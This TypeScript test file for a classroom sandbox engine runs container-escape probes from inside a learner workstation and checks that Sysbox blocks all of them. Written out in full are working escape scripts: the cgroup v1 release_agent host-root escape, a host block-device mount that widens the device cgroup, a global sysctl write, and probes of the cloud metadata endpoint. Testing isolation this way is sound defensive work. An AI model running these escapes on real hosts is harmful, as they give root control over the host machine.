/**
 * @module Fault test (`npm run test:faults`): escape probes from inside a workstation, in each
 * isolation mode this engine can run. Each probe does what a hostile learner (root in the
 * workstation) would try and looks for evidence on the host's side:
 * - cgroup v1 `release_agent`: a new cgroup hierarchy whose release agent the kernel runs as host root;
 * - mounting the host's root block device and reading a file the test just wrote on the host;
 * - writing a global sysctl under /proc/sys and reading the host's value;
 * - the metadata address 169.254.169.254;
 * - another workstation's listening port.
 * Sysbox claims to be a boundary: there, every probe must fail. `privileged` and `capabilities`
 * are root-equivalent by design: their results are printed as a table, not asserted (the README's
 * security section quotes it). A mode the engine cannot start is reported, not failed.
 * Every probe undoes what it changed. Skipped without the workstation image.
 */
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { readFile, rm, writeFile, mkdtemp } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { after, describe, it } from 'node:test'
import Dockerode from 'dockerode'
import { silentLogger } from '../logger.ts'
import { createDockerProvider, type DockerProvider } from '../sandbox/docker/index.ts'
import type { SandboxHandle } from '../sandbox/provider.ts'
import { newSessionId } from '../sessions/credentials.ts'
import { IsolationModeSchema, readSettings, type IsolationMode } from '../settings.ts'
import { workstationReaches } from '../testing/network-probes.ts'
import { removeSocketRootLeftovers } from '../testing/real-engine.ts'
import { skipWithoutWorkstation } from '../testing/workstation-image.ts'

const hostDocker = new Dockerode()
const skip = await skipWithoutWorkstation(hostDocker)

/** A global (not per-namespace) sysctl whose value matters little and is put back at once. */
const GLOBAL_SYSCTL = 'kernel/printk_ratelimit'
const LISTEN_PORT = 8080

interface ProbeOutcome {
  escaped: boolean
  detail: string
}

interface ProbeContext {
  provider: DockerProvider
  /** The learner's workstation, where the probe runs. */
  workstation: SandboxHandle
  /** Another learner's workstation, listening on LISTEN_PORT. */
  neighbour: SandboxHandle
}

const sh = (context: ProbeContext, script: string, env: Record<string, string> = {}) =>
  context.provider.exec(context.workstation, ['env', ...Object.entries(env).map(([key, value]) => `${key}=${value}`), 'sh', '-c', script])

/** Output of a script, trimmed and cut short for the table. */
const summary = (text: string) => text.trim().split('\n').slice(-2).join(' / ').slice(0, 160)

/**
 * Felix Wilhelm's release_agent escape, on a cgroup hierarchy of its own (`name=…`) so that the host's
 * hierarchies' agents are never touched. The agent writes `id` into the workstation's own root
 * through its overlay upper directory, a host path: the file appears only if the host ran it.
 */
const RELEASE_AGENT_SCRIPT = String.raw`
root=$(mktemp -d)
mount -t cgroup -o "none,name=$HIERARCHY" cgroup "$root" || exit 3
mkdir -p "$root/probe"
echo 1 > "$root/probe/notify_on_release"
upper=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n 1)
printf '#!/bin/sh\nid > %s/release-agent.out\n' "$upper" > /release-agent.sh
chmod +x /release-agent.sh
status=0
echo "$upper/release-agent.sh" > "$root/release_agent" || status=4
sh -c "echo \$\$ > $root/probe/cgroup.procs"
sleep 1
cat /release-agent.out 2>/dev/null || status=5
rm -f /release-agent.sh /release-agent.out
rmdir "$root/probe"; umount "$root"
# The hierarchy outlives that umount while its removed child is still dying (it is listed in every
# process's /proc/self/cgroup, the host's too): mount and unmount it again once the child is gone.
for attempt in 1 2 3 4 5; do
  grep -q "name=$HIERARCHY:" /proc/self/cgroup || break
  sleep 1
  mount -t cgroup -o "none,name=$HIERARCHY" cgroup "$root" && umount "$root"
done
rmdir "$root"
exit $status
`

/**
 * Makes a block device node of the host's root filesystem and mounts it read-only. If the device
 * cgroup refuses it, grants the workstation's own device cgroup every device first (writable here
 * because the workstation's init remounts the cgroup hierarchies read-write).
 */
const BLOCK_DEVICE_SCRIPT = String.raw`
mknod /tmp/host-disk b "$MAJOR" "$MINOR" || exit 3
mkdir -p /tmp/host-root
if ! mount -o ro /tmp/host-disk /tmp/host-root 2>/dev/null; then
  own=$(sed -n 's/^[0-9]*:devices://p' /proc/self/cgroup)
  echo a > "/sys/fs/cgroup/devices$own/devices.allow" && echo "widened the device cgroup"
  mount -o ro /tmp/host-disk /tmp/host-root || { rm -f /tmp/host-disk; exit 4; }
fi
cat "/tmp/host-root$MARKER"; status=$?
umount /tmp/host-root; rm -f /tmp/host-disk
exit $status
`

const PROBES: Record<string, (context: ProbeContext) => Promise<ProbeOutcome>> = {
  'cgroup v1 release_agent': async (context) => {
    const hierarchy = `dc-probe-${randomBytes(3).toString('hex')}`
    const result = await sh(context, RELEASE_AGENT_SCRIPT, { HIERARCHY: hierarchy })
    await hierarchyGone(hierarchy)
    return { escaped: result.exitCode === 0 && result.stdout.includes('uid=0'), detail: summary(result.stdout + result.stderr) }
  },
  'mount the host block device': async (context) => {
    const { major, minor } = await hostRootDevice()
    const marker = `/var/tmp/docker-classroom-probe-${randomBytes(6).toString('hex')}`
    const secret = randomBytes(8).toString('hex')
    await writeFile(marker, secret)
    try {
      const result = await sh(context, BLOCK_DEVICE_SCRIPT, { MAJOR: major, MINOR: minor, MARKER: marker })
      return { escaped: result.stdout.includes(secret), detail: summary(result.stdout + result.stderr) || `exit ${result.exitCode}` }
    } finally {
      await rm(marker, { force: true })
    }
  },
  "write the host's /proc/sys": async (context) => {
    const hostPath = `/proc/sys/${GLOBAL_SYSCTL}`
    const before = (await readFile(hostPath, 'utf8')).trim()
    const wanted = String(Number(before) + 1)
    const result = await sh(context, `echo "$VALUE" > /proc/sys/${GLOBAL_SYSCTL}`, { VALUE: wanted })
    const afterwards = (await readFile(hostPath, 'utf8')).trim()
    if (afterwards !== before) await writeFile(hostPath, before)
    return {
      escaped: afterwards === wanted,
      detail: afterwards === wanted ? `host ${GLOBAL_SYSCTL}: ${before} → ${afterwards} (put back)` : summary(result.stderr) || 'host value unchanged',
    }
  },
  'metadata address 169.254.169.254': async ({ provider, workstation }) => {
    const outcome = await workstationReaches(provider, workstation, 'http://169.254.169.254/latest/meta-data/')
    return { escaped: outcome.reached, detail: outcome.detail }
  },
  'another workstation': async ({ provider, workstation, neighbour }) => {
    const outcome = await workstationReaches(provider, workstation, `http://${await provider.previewHost(neighbour)}:${LISTEN_PORT}/`)
    return { escaped: outcome.reached, detail: outcome.detail }
  },
}

/** Waits until the probe's cgroup hierarchy is gone from the host: the kernel frees it asynchronously. */
async function hierarchyGone(hierarchy: string): Promise<void> {
  const deadline = Date.now() + 15_000
  while ((await readFile('/proc/self/cgroup', 'utf8')).includes(`name=${hierarchy}:`)) {
    assert.ok(Date.now() < deadline, `the probe left its cgroup hierarchy ${hierarchy} on the host`)
    await new Promise((resolve) => setTimeout(resolve, 250))
  }
}

/** Major and minor numbers of the block device the host's `/` is mounted from. */
async function hostRootDevice(): Promise<{ major: string; minor: string }> {
  const mountInfo = await readFile('/proc/1/mountinfo', 'utf8')
  const rootLine = mountInfo.split('\n').find((line) => line.split(' ')[4] === '/')
  const [major = '', minor = ''] = (rootLine?.split(' ')[2] ?? '').split(':')
  if (!major) throw new Error('the host root filesystem was not found in /proc/1/mountinfo')
  return { major, minor }
}

/** Starts a plain HTTP listener in a workstation, detached from the exec that starts it. */
async function listenIn(provider: DockerProvider, handle: SandboxHandle): Promise<void> {
  const started = await provider.exec(handle, ['sh', '-c', `nohup python3 -m http.server ${LISTEN_PORT} >/dev/null 2>&1 &`])
  assert.equal(started.exitCode, 0, started.stderr)
  // Control: the host reaches it (the port preview's path), so a refusal from the neighbour means something.
  const deadline = Date.now() + 10_000
  for (;;) {
    const answered = await fetch(`http://${await provider.previewHost(handle)}:${LISTEN_PORT}/`, { signal: AbortSignal.timeout(2000) })
      .then(async (response) => (await response.body?.cancel(), response.ok))
      .catch(() => false)
    if (answered) return
    assert.ok(Date.now() < deadline, 'the neighbour listener never answered the host')
    await new Promise((resolve) => setTimeout(resolve, 200))
  }
}

describe('Escape probes from inside a workstation', { skip, concurrency: false }, () => {
  const table = new Map<IsolationMode, Record<string, ProbeOutcome> | string>()
  const cleanups: (() => Promise<void>)[] = []

  after(async () => {
    for (const cleanup of cleanups.reverse()) await cleanup()
    const modes = IsolationModeSchema().options
    const rows = [['probe', ...modes], ...Object.keys(PROBES).map((probe) => [probe, ...modes.map((mode) => cell(table.get(mode), probe))])]
    console.log(`\n${rows.map((row) => `| ${row.join(' | ')} |`).join('\n')}\n`)
  })

  for (const mode of IsolationModeSchema().options) {
    it(`Should record every probe in ${mode} mode, and fail them all where it claims a boundary`, { timeout: 300_000 }, async (t) => {
      const socketRoot = await mkdtemp(path.join(tmpdir(), `classroom-escape-${mode}-`))
      const provider = await createDockerProvider({
        settings: readSettings({ ...process.env, SOCKET_ROOT: socketRoot, ISOLATION: mode, EXEC_TIMEOUT_MS: '60000' }),
        logger: silentLogger,
      })
      cleanups.push(async () => {
        await removeSocketRootLeftovers(hostDocker, socketRoot)
        await rm(socketRoot, { recursive: true, force: true })
      })
      let workstation: SandboxHandle
      try {
        workstation = await provider.create(newSessionId())
      } catch (error) {
        table.set(mode, 'cannot start on this engine')
        t.skip(`${mode} workstations do not start on this engine: ${(error as Error).message}`)
        return
      }
      const neighbour = await provider.create(newSessionId())
      await listenIn(provider, neighbour)

      const outcomes: Record<string, ProbeOutcome> = {}
      for (const [probe, run] of Object.entries(PROBES)) {
        outcomes[probe] = await run({ provider, workstation, neighbour })
        t.diagnostic(`${mode} · ${probe}: ${outcomes[probe].escaped ? 'ESCAPED' : 'blocked'} (${outcomes[probe].detail})`)
      }
      table.set(mode, outcomes)
      await Promise.all([workstation, neighbour].map((handle) => provider.destroy(handle)))
      if (mode === 'sysbox') {
        const escaped = Object.entries(outcomes).filter(([, outcome]) => outcome.escaped).map(([probe]) => probe)
        assert.deepEqual(escaped, [], 'sysbox is the boundary: no probe may succeed')
      }
    })
  }
})

function cell(outcomes: Record<string, ProbeOutcome> | string | undefined, probe: string): string {
  if (outcomes === undefined) return 'not run'
  if (typeof outcomes === 'string') return outcomes
  return outcomes[probe]?.escaped ? '**escapes**' : 'blocked'
}
